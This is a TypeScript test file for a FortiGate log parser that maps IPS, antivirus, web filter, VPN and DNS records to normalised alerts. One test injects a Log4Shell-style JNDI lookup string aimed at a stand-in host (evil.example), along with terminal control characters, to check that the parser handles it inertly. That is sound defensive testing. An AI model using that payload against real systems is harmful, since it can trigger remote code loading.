import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import fortigate from '../../src/detectors/fortigate.js';
import { finishes, fixtureLine } from './helpers.js';
import { OTHER_FORMATS, alertOf, assertOthersSniffLow, contextOf, holdsContract, junkHoldsContract, reasonOf, sniff } from './net-helpers.js';

// Records (test/fixtures/samples/fortigate/): elastic_7_4.log holds Elastic integrations' pipeline test inputs (see SOURCE.md); the others were written after the FortiOS Log Message Reference (5.6 … 7.4): field names and value sets per log id.

const IPS = fixtureLine('fortigate', 'ips.log', 1);

test('IPS (FortiOS 7.x): attack, attackid, severity, dropped, tz honoured, incident serial as vendor id', () => {
  assert.ok(sniff(fortigate, IPS) >= 0.95);
  const a = alertOf(fortigate, IPS);
  assert.equal(a.title, 'Apache.Log4j.Error.Log.Remote.Code.Execution');
  assert.deepEqual(a.rule, { id: '51006', name: 'Apache.Log4j.Error.Log.Remote.Code.Execution', category: 'ips/signature' });
  assert.equal(a.severity, 95);
  assert.deepEqual(a.vendor_severity, { value: 'critical', scale: 'fortios severity info|low|medium|high|critical' });
  assert.equal(a.action, 'blocked');
  assert.equal(a.time, '2024-03-11T13:22:05.000Z');
  assert.deepEqual(a.src, { ip: '203.0.113.45', port: 51234 });
  assert.deepEqual(a.dst, { ip: '10.10.20.15', port: 443, host: 'portal.example.com' });
  assert.equal(a.url, 'https://portal.example.com/login');
  assert.equal(a.domain, 'portal.example.com');
  assert.equal(a.vendor_id, 'FG200FT921900123:1962906682');
});

test('FortiOS 6.0 (no tz): eventtime in seconds is the time; without it, date+time in the source zone', () => {
  const old = fixtureLine('fortigate', 'ips.log', 2);
  const a = alertOf(fortigate, old);
  assert.equal(a.time, '2019-05-16T01:03:35.000Z');
  assert.equal(a.action, 'detected');
  assert.equal(a.severity, 75);
  const noEpoch = old.replace(' eventtime=1557968615', '');
  assert.equal(alertOf(fortigate, noEpoch, { timeZone: 'America/Los_Angeles' }).time, '2019-05-16T01:03:36.000Z');
});

test('antivirus: virus name, file, hash, quarantine; legacy FortiOS 5.0 type=virus', () => {
  const av = fixtureLine('fortigate', 'virus.log', 1);
  const a = alertOf(fortigate, av);
  assert.equal(a.title, 'EICAR_TEST_FILE in eicar.com');
  assert.deepEqual(a.rule, { id: '2172', name: 'EICAR_TEST_FILE', category: 'virus/infected Virus' });
  assert.deepEqual(a.malware, { name: 'EICAR_TEST_FILE' });
  assert.equal(a.file?.name, 'eicar.com');
  assert.equal(a.file?.sha256, '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f');
  assert.equal(a.url, 'http://dl.example.net/eicar.com');
  assert.deepEqual(a.user, { name: 'jdoe' });
  assert.equal(a.severity, 95, 'crlevel critical');
  const legacy = fixtureLine('fortigate', 'virus.log', 2);
  const l = alertOf(fortigate, legacy);
  assert.equal(l.title, 'W32/Agent.X!tr in setup.exe');
  assert.equal(l.rule?.category?.startsWith('virus'), true);
});

test('web filter block, application control pass, DLP, anomaly, SSL anomaly: all alerts with their own titles', () => {
  const web = alertOf(fortigate, fixtureLine('fortigate', 'utm.log', 1));
  assert.equal(web.title, 'Web filter blocked: Malicious Websites');
  assert.equal(web.rule?.id, 'webfilter:26');
  assert.equal(web.url, 'https://bad.example.org/x/y?z=1');
  assert.equal(web.severity, 50);
  assert.equal(web.time, '2020-04-23T17:17:48.000Z');
  const app = alertOf(fortigate, fixtureLine('fortigate', 'utm.log', 2));
  assert.equal(app.title, 'Application control: HTTPS.BROWSER');
  assert.equal(app.action, 'allowed');
  assert.equal(app.rule?.category, 'Web.Client');
  assert.equal(app.severity_label, 'low');
  const dlp = alertOf(fortigate, fixtureLine('fortigate', 'utm.log', 3));
  assert.equal(dlp.title, 'Credit card number detected');
  assert.equal(dlp.action, 'blocked');
  assert.equal(dlp.severity, 50);
  const anomaly = alertOf(fortigate, fixtureLine('fortigate', 'utm.log', 4));
  assert.equal(anomaly.title, 'tcp_syn_flood');
  assert.equal(anomaly.action, 'blocked');
  const ssl = alertOf(fortigate, fixtureLine('fortigate', 'utm.log', 5));
  assert.equal(ssl.title, 'Server certificate blocked');
  assert.equal(ssl.action, 'blocked');
});

test('traffic → flow context; DNS filter without a verdict → dns context; botnet DNS → alert', () => {
  const [flow] = contextOf(fortigate, fixtureLine('fortigate', 'traffic.log', 1));
  assert.equal(flow!.kind, 'flow');
  assert.equal(flow!.time, '2020-04-23T17:11:51.000Z');
  assert.equal(flow!.event_type, 'traffic/forward');
  assert.equal(flow!.data.sentbyte, '438650');
  assert.ok(flow!.observables.some((o) => o.value === '198.51.100.14' && o.role === 'src_nat'));
  assert.deepEqual(flow!.src, { ip: '192.168.10.10', port: 6000 });
  assert.deepEqual(flow!.dst, { ip: '203.0.113.13', port: 6000 });
  assert.deepEqual(flow!.device, { name: 'newfirewall', id: 'FGT60E0000000001' });
  assert.equal(flow!.outcome, undefined, 'an accepted connection says nothing about success');
  const [denied] = contextOf(fortigate, fixtureLine('fortigate', 'traffic.log', 1).replace(/action="[^"]*"/, 'action="deny"'));
  assert.equal(denied!.outcome, 'failure', 'a denied connection');
  assert.equal(flow!.session_id, '4352');
  const [dns] = contextOf(fortigate, fixtureLine('fortigate', 'dns.log', 1));
  assert.equal(dns!.kind, 'dns');
  assert.equal(dns!.event_type, 'utm/dns');
  assert.equal(dns!.domain, 'www.example.com');
  assert.deepEqual(dns!.dst, { ip: '192.0.2.53', port: 53 });
  const bot = alertOf(fortigate, fixtureLine('fortigate', 'dns.log', 2));
  assert.equal(bot.domain, 'cnc.badbot.example');
  assert.deepEqual(bot.malware, { name: 'cnc.badbot.example' });
  assert.equal(bot.action, 'blocked');
});

test('VPN events → vpn (SSL tunnel-up, IPsec negotiate error, SSL login fail); admin login failure → auth', () => {
  const [up] = contextOf(fortigate, fixtureLine('fortigate', 'vpn.log', 1));
  assert.equal(up!.kind, 'vpn');
  assert.equal(up!.event_type, 'event/vpn');
  assert.deepEqual(up!.user, { name: 'someuser' });
  assert.equal(up!.src?.ip, '203.0.113.13', 'remip: the client\'s public address');
  assert.equal(up!.assigned_ip, '10.212.134.200');
  assert.equal(up!.session_id, '2345');
  assert.deepEqual(up!.device, { name: 'vpn-gw', id: 'FGT60E0000000002' });
  assert.equal(up!.data.action, 'tunnel-up');
  const [ike] = contextOf(fortigate, fixtureLine('fortigate', 'vpn.log', 2));
  assert.equal(ike!.kind, 'vpn');
  assert.equal(ike!.user?.name, undefined, 'user="N/A" is no user');
  assert.equal(ike!.assigned_ip, undefined);
  assert.deepEqual(ike!.src, { ip: '198.51.100.9', port: 500 });
  assert.deepEqual(ike!.dst, { ip: '203.0.113.1', port: 500 });
  assert.equal(ike!.outcome, 'failure');
  const [fail] = contextOf(fortigate, fixtureLine('fortigate', 'vpn.log', 3));
  assert.equal(fail!.outcome, 'failure');
  assert.equal(fail!.session_id, undefined, 'tunnelid 0 is no session');
  const [admin] = contextOf(fortigate, fixtureLine('fortigate', 'system.log', 1));
  assert.equal(admin!.kind, 'auth');
  assert.deepEqual(admin!.user, { name: 'admin' });
  assert.equal(admin!.src?.ip, '192.0.2.99');
  assert.equal(admin!.outcome, 'failure');
  const [perf] = contextOf(fortigate, fixtureLine('fortigate', 'system.log', 2));
  assert.equal(perf!.kind, 'status');
});

test('Elastic pipeline records (FortiOS 7.4): traffic, admin login, IPsec, user auth, FortiClient endpoint, SSL alert', () => {
  const at = (n: number) => contextOf(fortigate, fixtureLine('fortigate', 'elastic_7_4.log', n))[0]!;
  const traffic = at(1), login = at(2), ike = at(3), user = at(4), endpoint = at(5), wad = at(6), sdwan = at(7);
  assert.deepEqual([traffic.kind, traffic.session_id, traffic.host?.mac], ['flow', '105048', 'a2:e9:00:ec:40:01']);
  assert.deepEqual(traffic.src, { ip: '10.1.100.11', port: 58012 });
  assert.deepEqual([login.kind, login.user?.name, login.src?.ip, login.outcome], ['auth', 'admin', '172.16.200.254', 'success']);
  assert.deepEqual([ike.kind, ike.src?.ip, ike.dst?.ip, ike.outcome, ike.assigned_ip], ['vpn', '81.2.69.144', '81.2.69.142', 'success', undefined]);
  assert.deepEqual([user.kind, user.event_type, user.user?.name, user.src?.ip, user.outcome], ['auth', 'event/user', 'bob', '10.1.100.11', 'success']);
  assert.deepEqual(endpoint.host, { name: 'VAN-200957-PC', ip: '172.18.64.250', id: '52C66FE08F724FE0B116DAD5062C96CD' });
  assert.deepEqual(endpoint.user, { name: 'skubas' });
  assert.deepEqual([wad.kind, wad.session_id, wad.dst?.port], ['tls', '5f88ddd1', 443]);
  assert.deepEqual([sdwan.kind, sdwan.event_type], ['status', 'event/sdwan']);
});

test('alerts carry event_type, the account split from its domain, and the client host FortiOS names', () => {
  const ips = alertOf(fortigate, IPS);
  assert.equal(ips.event_type, 'utm/ips');
  const withUser = alertOf(fortigate, fixtureLine('fortigate', 'virus.log', 1).replace('user="jdoe"', 'user="CORP\\jdoe" srcname="WS-042"'));
  assert.deepEqual(withUser.user, { name: 'jdoe', domain: 'CORP' });
  assert.equal(withUser.src?.user, 'jdoe');
  assert.equal(withUser.host?.name, 'WS-042');
  assert.equal(alertOf(fortigate, fixtureLine('fortigate', 'virus.log', 2)).event_type, 'virus/infected', 'FortiOS 5.0: type/subtype as written');
});

test('records without date/devname (real-world variance) and an RFC 3164 header in front', () => {
  const bare = 'logid="0419016384" type="utm" subtype="ips" eventtype="signature" level="alert" srcip=10.0.0.1 dstip=10.0.0.2 attack="X.Y" attackid=7 severity="low" action="detected"';
  assert.equal(alertOf(fortigate, bare).time, '2024-12-01T00:00:00.000Z');
  const headed = `<189>Mar 11 14:22:05 FGT-HQ ${bare}`;
  assert.equal(alertOf(fortigate, headed).time, '2024-03-11T14:22:05.000Z');
});

test('every UTM alert type carries the FortiGate as device (devname, devid), as its context events do', () => {
  const deviceOf = (line: string) => alertOf(fortigate, line).device;
  const ips = alertOf(fortigate, IPS);
  assert.deepEqual(ips.device, { name: 'FGT-HQ', id: 'FG200FT921900123' });
  assert.equal(ips.host, undefined, 'the firewall is not the host the detection is about');
  assert.ok(!ips.observables.some((o) => o.value === 'FGT-HQ' || o.role === 'device'), 'the device is not an indicator');
  assert.equal(deviceOf(fixtureLine('fortigate', 'ips.log', 2)), undefined, 'no devname, no devid: no device');
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'virus.log', 1)), { name: 'FG60F', id: 'FGT60FTK2109ABCD' });
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'virus.log', 2)), { name: 'FG100D', id: 'FG100D3G13800000' }, 'FortiOS 5.0 virus/infected');
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'utm.log', 1)), { name: 'fw1', id: 'FGT6HD3916800000' }, 'webfilter');
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'utm.log', 2)), { name: 'fw1', id: 'FGT6HD3916800000' }, 'app-ctrl');
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'utm.log', 3)), { name: 'fw2', id: 'FG1K0E3917000001' }, 'dlp');
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'utm.log', 4)), { name: 'fw2', id: 'FG1K0E3917000001' }, 'anomaly');
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'utm.log', 5)), { name: 'fw2', id: 'FG1K0E3917000001' }, 'ssl');
  // a DNS filter verdict is an alert, a plain lookup is dns context: the same device either way
  const [lookup] = contextOf(fortigate, fixtureLine('fortigate', 'dns.log', 1));
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'dns.log', 2)), { name: 'fw', id: 'FGT60E0000000001' });
  assert.deepEqual(deviceOf(fixtureLine('fortigate', 'dns.log', 2)), lookup!.device);
});

test('sniff: FortiOS high; Sophos XG and other key=value formats low', () => {
  assert.ok(sniff(fortigate, OTHER_FORMATS.fortigate!) >= 0.9);
  assertOthersSniffLow(fortigate, 'fortigate');
  assert.ok(sniff(fortigate, 'logid="0000000013" type="traffic" log_type="Firewall" log_component="x"') < 0.5);
});

test('malformed and hostile records', () => {
  assert.match(reasonOf(fortigate, 'type="utm" subtype="ips"'), /logid is missing/);
  assert.match(reasonOf(fortigate, 'logid="0000000013" type="weird"'), /log type "weird"/);
  assert.match(reasonOf(fortigate, 'date=2024-99-99 time=99:00:00 logid="0000000013" type="traffic"'), /not a valid time/);
  const big = 'A'.repeat(1 << 20);
  finishes(() => holdsContract(fortigate, `${IPS} msg="${big}"`));
  finishes(() => holdsContract(fortigate, `logid="0419016384" type="utm" subtype="ips" attack="${big}`));
  finishes(() => holdsContract(fortigate, `logid="0419016384" type="utm" ${'a="\\'.repeat(100000)}`));
  finishes(() => holdsContract(fortigate, `logid="0419016384" type="utm" ${'k=v '.repeat(100000)}`));
  const evil = alertOf(fortigate, IPS.replace('attack="Apache.Log4j.Error.Log.Remote.Code.Execution"', 'attack="${jndi:ldap://evil.example/a}\u0000\u001b[2J\r\nFAKE"'));
  assert.equal(evil.title, '${jndi:ldap://evil.example/a}[2J\nFAKE');
  const unbalanced = alertOf(fortigate, IPS.replace('msg="applications3:', 'msg="unterminated'));
  assert.equal(unbalanced.rule?.id, '51006');
});

test('property: generated UTM IPS records map back; junk and mutations hold the contract', () => {
  const ipv4 = fc.tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255), fc.nat(255), fc.integer({ min: 1, max: 254 })).map((p) => p.join('.'));
  const attack = fc.stringMatching(/^[A-Za-z][A-Za-z0-9.]{0,40}$/);
  fc.assert(
    fc.property(ipv4, ipv4, attack, fc.integer({ min: 1, max: 99999999 }), fc.constantFrom('info', 'low', 'medium', 'high', 'critical'),
      fc.constantFrom('dropped', 'detected', 'reset', 'pass'), (src, dst, name, id, sev, action) => {
        const a = alertOf(fortigate, `date=2024-03-11 time=14:22:05 tz="+0000" devid="FG100E" logid="0419016384" type="utm" subtype="ips" level="alert" severity="${sev}" srcip=${src} dstip=${dst} attack="${name}" attackid=${id} action="${action}"`);
        assert.equal(a.src?.ip, src);
        assert.equal(a.dst?.ip, dst);
        assert.equal(a.title, name);
        assert.equal(a.rule?.id, String(id));
        assert.equal(a.vendor_severity?.value, sev);
        assert.equal(a.action, action === 'pass' ? 'allowed' : action === 'detected' ? 'detected' : 'blocked');
      }),
    { numRuns: 150 },
  );
  junkHoldsContract(fortigate, IPS);
});
